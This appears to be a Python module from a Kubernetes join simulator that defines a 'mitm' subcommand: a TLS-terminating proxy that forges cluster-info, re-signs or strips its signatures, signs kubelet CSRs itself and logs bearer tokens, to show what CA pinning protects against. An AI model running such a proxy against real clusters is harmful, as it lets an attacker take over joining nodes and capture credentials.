"""Parse and run ``joinsim mitm``: a man in the middle of ``kubeadm join``, to show what CA pinning protects.

Why a separate module: ``sim/cli.py`` wires the subcommand in with
``add_parsers`` and ``run``. The proxy's endpoint goes to stdout alone on its
line (so a script can point a join at it); what it does goes to stderr as
``[mitm]`` lines: the forged cluster-info it hands out, every bearer token it
sees, every CSR it keeps.
"""

from __future__ import annotations

import argparse
import asyncio
import sys
from typing import Any, TextIO

from sim.emulate.cliutil import fail, wait_for_stop_signal
from sim.emulate.listen import split_host_port
from sim.emulate.mitm import MitmOptions, MitmProxy
from sim.emulate.mitm_rewrite import Signatures
from sim.protocol import tokens
from sim.protocol.errors import TokenError

__all__ = ["add_parsers", "mitm", "options_from_args", "run"]


def _address(text: str) -> str:
    """Accept ``host:port`` as Go's net.SplitHostPort does."""
    try:
        split_host_port(text)
    except ValueError as err:
        raise argparse.ArgumentTypeError(str(err)) from None
    return text


def _token(text: str) -> str:
    """Accept a bootstrap token, refusing others with kubeadm's text."""
    try:
        tokens.parse_token(text)
    except TokenError as err:
        raise argparse.ArgumentTypeError(str(err)) from None
    return text


def add_parsers(subparsers: Any) -> None:
    """Add ``mitm`` to ``joinsim``'s subcommands."""
    parser = subparsers.add_parser(
        "mitm", help="run a TLS-terminating proxy that forges cluster-info (what CA pinning protects against)",
        description="Listen as a fake API server with a CA of its own. cluster-info is fetched from the upstream and "
                    "rewritten to name the proxy's CA and address (re-signed when --token is known); kubelet CSRs "
                    "are kept and signed by the proxy; everything else is forwarded. Stop with Ctrl-C or SIGTERM.")
    parser.add_argument("--listen", type=_address, required=True, help="HOST:PORT to listen on (port 0 picks one)")
    parser.add_argument("--upstream", type=_address, required=True, help="HOST:PORT of the real API server")
    parser.add_argument("--token", type=_token, help="bootstrap token the attacker knows; cluster-info is re-signed")
    parser.add_argument("--drop-signatures", action="store_true",
                        help="without --token: remove the JWS signatures instead of replaying the originals")
    parser.add_argument("--ca-key", choices=("rsa", "ecdsa"), default="rsa",
                        help="key type of the proxy's CA and certificate (default rsa, as kubeadm's)")
    parser.add_argument("-v", "--verbose", action="store_true", help="log every request on stderr")


def options_from_args(args: argparse.Namespace, stderr: TextIO | None = None) -> MitmOptions:
    """Turn parsed flags into ``MitmOptions``."""
    err = stderr or sys.stderr
    host, port = split_host_port(args.listen)

    def log(line: str) -> None:
        print(line, file=err, flush=True)
    return MitmOptions(listen_host=host, listen_port=port, upstream=args.upstream, token=args.token,
                       signatures=Signatures.DROP if args.drop_signatures else Signatures.REPLAY,
                       ca_key_type=args.ca_key, log=log, verbose=args.verbose)


def run(args: argparse.Namespace) -> int:
    """Run ``joinsim mitm`` with parsed flags; return the exit code."""
    return asyncio.run(mitm(options_from_args(args)))


async def mitm(options: MitmOptions, stdout: TextIO | None = None, stderr: TextIO | None = None) -> int:
    """Start the proxy, print its endpoint, serve until SIGINT/SIGTERM, then stop."""
    out, err = stdout or sys.stdout, stderr or sys.stderr
    proxy = MitmProxy(options)
    try:
        await proxy.start()
    except OSError as exc:
        return fail(str(exc), err)
    if options.token:
        mode = "re-signing cluster-info with the token"
    elif options.signatures is Signatures.DROP:
        mode = "dropping cluster-info's signatures"
    else:
        mode = "replaying cluster-info's original signatures"
    print(f"[mitm] Listening on https://{proxy.endpoint} for https://{options.upstream}, {mode}; "
          f"the proxy's CA is {proxy.ca_pin}", file=err, flush=True)
    print(proxy.endpoint, file=out, flush=True)
    try:
        await wait_for_stop_signal()
    finally:
        await proxy.stop()
    print(f"[mitm] Stopped ({len(proxy.requests)} request(s), {len(proxy.tokens_seen)} token(s) seen)",
          file=err, flush=True)
    return 0
